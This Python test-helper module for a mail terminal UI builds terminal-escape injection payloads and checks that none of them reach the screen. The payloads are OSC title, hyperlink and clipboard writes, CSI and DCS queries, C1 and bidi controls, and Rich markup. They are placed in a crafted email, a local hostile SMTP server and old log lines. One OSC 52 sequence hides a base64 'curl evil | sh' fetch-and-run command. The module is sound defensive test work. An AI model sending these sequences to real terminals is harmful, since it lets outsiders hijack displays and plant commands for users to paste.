"""Hostile text for the terminal-escape tests (not a test module): every C0 and C1 code point,
DEL, OSC (the window title, OSC 52's clipboard write, 8-bit OSC), CSI (7- and 8-bit), DCS, the
bidi controls and Rich markup; a hostile mail with it in its headers; a real aiosmtpd server
that puts it in its banner, its EHLO and its replies; and the checks of what reached a terminal.
"""

from __future__ import annotations

import base64
import io
import json
import os
import re
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import SMTP as AioSMTP
from aiosmtpd.smtp import Envelope, Session

from tests.helpers.sendmail_door import scripts
from tests.helpers.smtp_server import free_port

C0 = "".join(chr(c) for c in range(0x20))
C1 = "".join(chr(c) for c in range(0x80, 0xA0))
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
SEQUENCES = (
    "\x1b]0;pwnedTITLE\x07",  # OSC 0: the window title
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",  # OSC 52: a clipboard write
    "\x1b]8;;http://evil.test/\x1b\\",  # OSC 8 (a hyperlink), ST-terminated
    "\x9d2;pwnedC1TITLE\x9c",  # 8-bit OSC
    "\x1b[2J",  # CSI: clear the screen
    "\x1b[1;31m",  # CSI: colours
    "\x9b6n",  # 8-bit CSI: report the cursor (the terminal answers on stdin)
    "\x1bP1$qm\x1b\\",  # DCS: DECRQSS
    "\x90+q544e\x9c",  # 8-bit DCS: XTGETTCAP
    "\x1bc",  # RIS: reset the terminal
)
MARKUP = "[bold]b[/bold] [link=http://evil.test/]l[/link] [reverse]"
# The text a sender or a server controls, with words around it that must survive.
HOSTILE = (
    "Disk "
    + "".join(SEQUENCES[:4])
    + " full "
    + "".join(SEQUENCES[4:])
    + f" {BIDI}evil {MARKUP} {C0}{chr(0x7F)}{C1}"  # 0x9D (OSC) eats the rest: it is last
)
# In an SMTP reply, a banner or EHLO: one line (no CR or LF), the rest as above.
HOSTILE_LINE = HOSTILE.replace("\r", "").replace("\n", "")
# What must never be seen, even with its ESC or C1 introducer gone.
LEFTOVERS = ("pwnedTITLE", "pwnedC1TITLE", "Y3VybCBldmlsIHwgc2g", "]0;", "]52;", "]8;", "$qm")
# Anything a terminal acts on, but newline (and ESC, checked separately on screens).
RAW = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def encoded_word(text: str) -> str:
    return "=?UTF-8?B?" + base64.b64encode(text.encode()).decode() + "?="


def hostile_mail() -> bytes:
    """A message whose Subject (and From's display name) decode to HOSTILE, with raw escape
    sequences and raw (UTF-8) C1 and bidi characters in its header block."""
    head = (
        f"From: {encoded_word(HOSTILE)} <evil@contoso.test>\n"
        "To: root\n"
        f"Subject: {encoded_word(HOSTILE)}\n"
    ).encode()
    raw = (
        b"X-Raw: a\x1b]0;pwnedTITLE\x07b\x1b[2Jc\x1bP1$qm\x1b\\d "
        + ("\u009b6n" + BIDI).encode()
        + "\u009d2;pwnedC1TITLE\u009c".encode()
        + b"\n"
    )
    return head + raw + b"\nThe body.\n"


def raw_controls(text: str) -> list[str]:
    """The control and bidi characters in `text` but newline, ESC included: [] for JSON that
    escaped them all (its payload words may stay: they are inert text)."""
    return [f"{ord(c):#06x}" for c in sorted(set(RAW.findall(text) + re.findall("\x1b", text)))]


def terminal_leaks(text: str) -> list[str]:
    """What in `text` (a command's output) a terminal would act on or that shows a sequence
    was half removed: [] when it is clean."""
    found = [f"{ord(c):#06x}" for c in sorted(set(RAW.findall(text)))]
    found += [f"ESC at {i}" for i, c in enumerate(text) if c == "\x1b"][:3]
    found += [word for word in LEFTOVERS if word in text]
    return found


# A screen's output: Textual's own escape sequences are CSI only (cursor moves and SGR colours).
_OWN_CSI = re.compile(r"\x1b\[[0-9;:?<=>]*[ -/]*[@-~]")


def screen_leaks(output: str) -> list[str]:
    """What in a Textual frame (the exact text written to the terminal) came from outside:
    any control character but ESC, CR and LF, any escape sequence other than CSI, the hostile
    CSI sequences themselves, and the leftovers of half-removed ones."""
    found = [s.encode("unicode_escape").decode() for s in SEQUENCES if s in output]
    rest = _OWN_CSI.sub("", output)
    found += [f"ESC {rest[i + 1 : i + 3]!r}" for i, c in enumerate(rest) if c == "\x1b"][:3]
    raw = re.findall(
        r"[\x00-\x09\x0b\x0c\x0e-\x1a\x1c-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", rest
    )
    found += [f"{ord(c):#06x}" for c in sorted(set(raw))]
    found += [word for word in LEFTOVERS if word in rest]
    return found


def frame(app: Any) -> str:
    """The screen exactly as Textual writes it to a terminal: the compositor's full update
    rendered by a true-colour console (what the driver would send)."""
    from rich.console import Console

    width, height = app.size
    console = Console(
        width=width,
        height=height,
        file=io.StringIO(),
        force_terminal=True,
        color_system="truecolor",
        legacy_windows=False,
        safe_box=False,
    )
    update = app.screen._compositor.render_update(full=True, screen_stack=app._background_screens)
    return str(update.render_segments(console))


class HostileHandler:
    """Answers EHLO with a hostile extension line and RCPT with a hostile reply."""

    def __init__(self, rcpt_code: str = "451 4.7.1") -> None:
        self.rcpt_code = rcpt_code

    async def handle_EHLO(  # noqa: N802 - aiosmtpd's name
        self,
        server: AioSMTP,
        session: Session,
        envelope: Envelope,
        hostname: str,
        responses: list[str],
    ) -> list[str]:
        session.host_name = hostname
        return [*responses[:-1], f"250-X-NOTE {HOSTILE_LINE}", responses[-1]]

    async def handle_RCPT(  # noqa: N802
        self,
        server: AioSMTP,
        session: Session,
        envelope: Envelope,
        address: str,
        options: list[str],
    ) -> str:
        return f"{self.rcpt_code} {HOSTILE_LINE}"


class HostileSmtpServer:
    """aiosmtpd on 127.0.0.1 (plain, SMTPUTF8 so its replies may hold any character) whose
    banner, EHLO and RCPT replies carry HOSTILE_LINE."""

    def __init__(self, rcpt_code: str = "451 4.7.1") -> None:
        self.port = free_port()
        self.controller = Controller(
            HostileHandler(rcpt_code),
            hostname="127.0.0.1",
            port=self.port,
            server_hostname="mail.test",
            ident=HOSTILE_LINE,
            enable_SMTPUTF8=True,
        )

    def __enter__(self) -> HostileSmtpServer:
        self.controller.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.controller.stop()


def write_config(folder: Path, port: int) -> Path:
    """SMTP to 127.0.0.1:`port`; the outbox and the alert log in `folder`."""
    config = folder / "config.toml"
    config.write_text(
        f'service = "smtp"\n[smtp]\nhost = "127.0.0.1"\nport = {port}\nsecurity = "none"\n'
        '[network]\ntimeout = 10\n[message]\ndefault_from = "noc@contoso.test"\n'
        f'[queue]\npath = "{folder / "queue"}"\n'
        f'[alert_log]\npath = "{folder / "alert_log.jsonl"}"\n'
        '[sendmail]\nadmin = "ops@contoso.test"\n'
    )
    return config


def run(argv: list[str], config: Path, stdin: bytes = b"") -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "ALLOY_TUI_CONFIG": str(config), "TERM": "xterm-256color"}
    return subprocess.run(argv, input=stdin, capture_output=True, env=env, timeout=90)


def hostile_outbox(folder: Path) -> tuple[Path, str]:
    """The hostile mail handed to the real `sendmail` (a subprocess), and the runner it starts
    refused by a hostile server: (the config, the queue id), after that one attempt."""
    from alloy_tui.core.outbox import Outbox, runner_active

    with pytest.MonkeyPatch.context() as env, HostileSmtpServer() as server:
        env.setenv("ALLOY_TUI_STATE_DIR", str(folder / "state"))
        config = write_config(folder, server.port)
        bin_dir = scripts(folder)
        r = run([str(bin_dir / "sendmail"), "-i", "root"], config, hostile_mail())
        assert r.returncode == 0, r.stderr
        box = Outbox(folder / "queue")
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:  # the runner the hand-off started meets the server
            if not runner_active(box.path) and box.list() and box.list()[0].attempts:
                break
            time.sleep(0.1)
        [message] = box.list()
        assert message.attempts == 1 and message.last_error is not None
    return config, message.id


def old_log_lines() -> str:
    """Alert-log lines an older version (or another program) could have written: the hostile
    text raw in JSON strings (C1 and bidi may stand raw in JSON), a line that is not JSON, and
    a clean entry with C1 and bidi in a key no reader shows."""
    old = json.dumps(
        {
            "ts": "2026-01-01T00:00:00.000Z",
            "level": "error",
            "event": "notification.failed",
            "message": "Not sent: " + HOSTILE,
            "details": {"error": HOSTILE, "subject": HOSTILE, "to": ["ops@contoso.test"]},
            "extra": C1 + BIDI,
        },
        ensure_ascii=False,
    )
    extra = json.dumps(
        {"ts": "2026-01-01T00:00:01.000Z", "level": "info", "event": "x.y", "message": "m"}
        | {"details": {}, "extra": C1 + BIDI},
        ensure_ascii=False,
    )
    assert "\x9b" in old and "\u202e" in old and "\x9b" in extra
    garbage = "garbage " + HOSTILE.replace("\n", " ").replace("\r", " ")
    return old + "\n" + garbage + "\n" + extra + "\n"
